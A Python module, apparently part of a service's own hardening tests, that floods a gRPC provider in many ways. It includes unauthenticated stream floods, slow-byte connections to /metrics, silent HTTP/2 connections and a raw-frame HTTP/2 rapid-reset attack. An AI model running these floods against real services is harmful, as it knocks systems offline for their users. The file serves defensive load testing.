"""What strangers, tenants and agents can do to a provider at their worst, one coroutine per way.

`python -m evaluation.hardening.floods KIND ENDPOINT METRICS TOKEN SECONDS` runs one of them as a process of its own, at
the lowest priority: on a machine with few cores, what it computes itself must not look like the provider's slowness.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import grpc.aio

from evaluation.hardening.flooded_site import hello, ticket
from pharoah_protocol.rpc import Stub
from pharoah_protocol.v1 import (
    AgentMessage,
    EndRunRequest,
    EndState,
    EvaluateRequest,
    GetEpochRequest,
    GetOfferRequest,
    GetTableRequest,
    JoinRunRequest,
    ReportRequest,
    Telemetry,
)
from pharoah_protocol.voprf import protocol

CONNECTIONS = 16
"""Connections of one flood, each with as many calls as it may have open."""
STREAMS = 64
"""Calls that a flood keeps open on each connection; the provider may allow fewer."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS, ACK = 0x4, 0x1
CANCEL = (8).to_bytes(4, "big")
SILENT_CONNECTIONS = 2000
MAXIMAL_RANKS = 1024
TELEMETRY_ROWS = 10_000


class Target:
    """One provider, as one attacker sees it."""

    def __init__(self, endpoint: str, metrics: str, token: str) -> None:
        self.endpoint, self.metrics = endpoint, metrics
        self.token = (("authorization", f"Bearer {token}"),) if token else ()

    def channel(self) -> grpc.aio.Channel:
        """A connection of its own, also beside other channels of this process."""
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0)]
        return grpc.aio.insecure_channel(self.endpoint, options)

    async def raw(self, address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        host, _, port = address.rpartition(":")
        return await asyncio.open_connection(host, int(port))


async def _ignoring(work: Awaitable[Any]) -> None:
    with contextlib.suppress(grpc.aio.AioRpcError, OSError, asyncio.IncompleteReadError):
        await work


async def _again_and_again(work: Callable[[], Awaitable[Any]]) -> None:
    while True:
        await _ignoring(work())
        await asyncio.sleep(0)


async def _in_parallel(target: Target, work: Callable[[grpc.aio.Channel], Callable[[], Awaitable[Any]]]) -> None:
    """The same call on all streams of several connections, until cancelled."""
    channels = [target.channel() for _ in range(CONNECTIONS)]
    try:
        async with asyncio.TaskGroup() as group:
            for channel in channels:
                for _ in range(STREAMS):
                    group.create_task(_again_and_again(work(channel)))
    finally:
        await asyncio.gather(*(channel.close(None) for channel in channels))


# ---- strangers ------------------------------------------------------------------------------------------------------


async def _silence() -> AsyncIterator[bytes]:
    await asyncio.Event().wait()
    yield b""


async def streams_of_nobody(target: Target) -> None:
    """Streams without a token that send nothing, as the attack on server reflection did."""
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    await _in_parallel(
        target, lambda channel: lambda: channel.stream_stream(path, None, None)(_silence(), timeout=20).read()
    )


async def health_flood(target: Target) -> None:
    """Questions of health, as fast as they are answered."""
    await _in_parallel(
        target, lambda channel: lambda: channel.unary_unary("/grpc.health.v1.Health/Check", None, None)(b"")
    )


async def unknown_methods(target: Target) -> None:
    """Calls of methods that do not exist, and of real ones without a token."""
    paths = ("/no.such.Service/Method", "/pharoah.v1.Exchange/GetEpoch")
    await _in_parallel(
        target, lambda channel: lambda: channel.unary_unary(secrets.choice(paths), None, None)(b"", timeout=5)
    )


async def silent_connections(target: Target) -> None:
    """Thousands of connections that send a preface and then nothing."""

    async def one() -> None:
        reader, writer = await target.raw(target.endpoint)
        writer.write(PREFACE + _frame(SETTINGS, 0, 0, b""))
        try:
            while await reader.read(4096):
                pass
        finally:
            writer.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(SILENT_CONNECTIONS):
            group.create_task(_again_and_again(one))


async def slow_readers_of_metrics(target: Target) -> None:
    """Hundreds of connections to /metrics that send a byte a second, and open again when they are closed."""

    async def one() -> None:
        _, writer = await target.raw(target.metrics)
        try:
            for byte in b"GET /metrics HTTP/1.1\r\n" * 100:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(200):
            group.create_task(_again_and_again(one))


async def rapid_reset(target: Target) -> None:
    """Calls that are opened and cancelled in one write, on a few connections; a closed one is opened again."""

    async def one() -> None:
        reader, writer = await target.raw(target.endpoint)
        answering = asyncio.create_task(_answer_pings(reader, writer))
        try:
            writer.write(PREFACE + _frame(SETTINGS, 0, 0, b""))
            for stream in range(1, 1 << 30, 200):
                writer.write(b"".join(_opened_and_cancelled(target, at) for at in range(stream, stream + 200, 2)))
                await writer.drain()
                if answering.done():
                    return
                await asyncio.sleep(0.01)  # 10,000 calls a second on each connection
        finally:
            answering.cancel()
            writer.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(_again_and_again(one))


async def _answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Acknowledge settings and pings, as a live connection does; ends with the connection."""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] in (SETTINGS, PING) and not head[4] & ACK:
            writer.write(_frame(head[3], ACK, 0, payload if head[3] == PING else b""))


def _opened_and_cancelled(target: Target, stream: int) -> bytes:
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/pharoah.v1.Exchange/GetEpoch",
        ":authority": "provider",
        "te": "trailers",
        "content-type": "application/grpc",
        "grpc-timeout": "5S",
        **dict(target.token),
    }
    block = b"".join(b"\x00" + _text(name) + _text(value) for name, value in headers.items())
    return _frame(HEADERS, END_HEADERS, stream, block) + _frame(RST_STREAM, 0, stream, CANCEL)


def _text(text: str) -> bytes:
    assert len(text) < 127
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# ---- tenants --------------------------------------------------------------------------------------------------------


async def epochs(target: Target) -> None:
    """The cheapest call, as often as it is answered."""
    await _in_parallel(
        target,
        lambda channel: lambda: Stub(channel, "Exchange").GetEpoch(GetEpochRequest(), timeout=5, metadata=target.token),
    )


async def questions(target: Target) -> None:
    """Offers and evaluations until the day's quota is used up, and on."""

    def asking(channel: grpc.aio.Channel) -> Callable[[], Awaitable[Any]]:
        stub, blinded = Stub(channel, "Exchange"), [protocol.filler() for _ in range(64)]

        async def one() -> None:
            offer = await stub.GetOffer(GetOfferRequest(ticket=ticket("n1")), timeout=5, metadata=target.token)
            request = EvaluateRequest(offer_id=offer.offer_id, request_id=secrets.token_bytes(16), blinded=blinded)
            await stub.Evaluate(request, timeout=5, metadata=target.token)

        return one

    await _in_parallel(target, asking)


async def tables(target: Target) -> None:
    """The whole tables, again and again."""

    def reading(channel: grpc.aio.Channel) -> Callable[[], Awaitable[Any]]:
        stub = Stub(channel, "Exchange")

        async def one() -> None:
            offer = await stub.GetOffer(GetOfferRequest(ticket=ticket("n1")), timeout=5, metadata=target.token)
            for class_id in offer.class_ids:
                request = GetTableRequest(epoch=offer.epoch, class_id=class_id)
                async for _ in stub.GetTable(request, timeout=5, metadata=target.token):
                    pass

        return one

    await _in_parallel(target, reading)


async def _joined(stub: Any, target: Target, ranks: int) -> bytes:
    run_id = secrets.token_bytes(16)
    request = JoinRunRequest(run_id=run_id, ticket=ticket("n1"), ranks=ranks)
    await stub.JoinRun(request, timeout=5, metadata=target.token)
    return run_id


def _levels(first: int, ranks: int) -> list[int]:
    """Levels that no cache knows and no stretch of equal values covers."""
    return [(first + 7 * at) % 29 - 14 for at in range(4096 // ranks * ranks)]


async def reports(target: Target) -> None:
    """Sixteen runs of 1,024 ranks that send the largest reports, whose levels change with every second."""

    async def one() -> None:
        async with target.channel() as channel:
            stub, ranks = Stub(channel, "Runs"), MAXIMAL_RANKS
            run_id, first = await _joined(stub, target, ranks), 0
            while True:
                levels = _levels(first, ranks)
                request = ReportRequest(
                    run_id=run_id, attempt=1, first_second=first, first_ended_at=time.time(), step_levels=levels,
                    memory_levels=levels,
                )  # fmt: skip
                with contextlib.suppress(grpc.aio.AioRpcError):
                    await stub.Report(request, timeout=5, metadata=target.token)
                first += 4096 // ranks

    async with asyncio.TaskGroup() as group:
        for _ in range(16):
            group.create_task(_again_and_again(one))


async def joins(target: Target) -> None:
    """Runs that join and never report."""
    await _in_parallel(target, lambda channel: lambda: _joined(Stub(channel, "Runs"), target, 1))


async def ends(target: Target) -> None:
    """Runs that join, report what they may at once, end, and report again."""

    def ending(channel: grpc.aio.Channel) -> Callable[[], Awaitable[Any]]:
        stub = Stub(channel, "Runs")

        async def one() -> None:
            run_id = await _joined(stub, target, 8)
            levels = _levels(0, 8)
            report = ReportRequest(
                run_id=run_id, attempt=1, first_ended_at=time.time(), step_levels=levels, memory_levels=levels
            )
            for _ in range(10):
                await _ignoring(stub.Report(report, timeout=5, metadata=target.token))
                await _ignoring(
                    stub.EndRun(
                        EndRunRequest(run_id=run_id, state=EndState.END_STATE_OK), timeout=5, metadata=target.token
                    )
                )

        return one

    await _in_parallel(target, ending)


# ---- agents ---------------------------------------------------------------------------------------------------------


async def telemetry(target: Target) -> None:
    """The largest batches of telemetry, without a pause."""

    async def messages() -> AsyncIterator[AgentMessage]:
        yield AgentMessage(hello=hello("n2"))
        for batch in range(1, 1 << 30):
            rows = Telemetry(
                batch=batch, sampled_at=[time.time()] * TELEMETRY_ROWS, metric=["m"] * TELEMETRY_ROWS,
                device=["d"] * TELEMETRY_ROWS, value=[float(batch)] * TELEMETRY_ROWS,
            )  # fmt: skip
            yield AgentMessage(telemetry=rows)

    async def one() -> None:
        async with target.channel() as channel:
            async for _ in Stub(channel, "Agent").Connect(messages(), metadata=target.token):
                pass

    async with asyncio.TaskGroup() as group:
        for _ in range(2):
            group.create_task(_again_and_again(one))


async def connects(target: Target) -> None:
    """An agent that connects and goes away at once, on many streams."""

    async def messages() -> AsyncIterator[AgentMessage]:
        yield AgentMessage(hello=hello("n2"))

    def connecting(channel: grpc.aio.Channel) -> Callable[[], Awaitable[Any]]:
        async def one() -> None:
            call = Stub(channel, "Agent").Connect(messages(), metadata=target.token)
            await call.read()
            call.cancel()

        return one

    await _in_parallel(target, connecting)


STRANGER = (
    streams_of_nobody, health_flood, unknown_methods, silent_connections, slow_readers_of_metrics, rapid_reset
)  # fmt: skip
TENANT = (epochs, questions, tables, reports, joins, ends, rapid_reset)
AGENT = (telemetry, connects, rapid_reset)


async def idle(_: Target) -> None:
    """The control: the same CPU use as an attacker's at most, and no call."""
    while True:
        sum(range(10_000))
        await asyncio.sleep(0)


KINDS = {work.__name__: work for work in (*STRANGER, *TENANT, *AGENT, idle)}


async def _run(kind: str, target: Target, seconds: float) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await KINDS[kind](target)


if __name__ == "__main__":
    os.nice(19)
    kind, endpoint, metrics, token, seconds = sys.argv[1:]
    print("ready", flush=True)
    asyncio.run(_run(kind, Target(endpoint, metrics, token), float(seconds)))
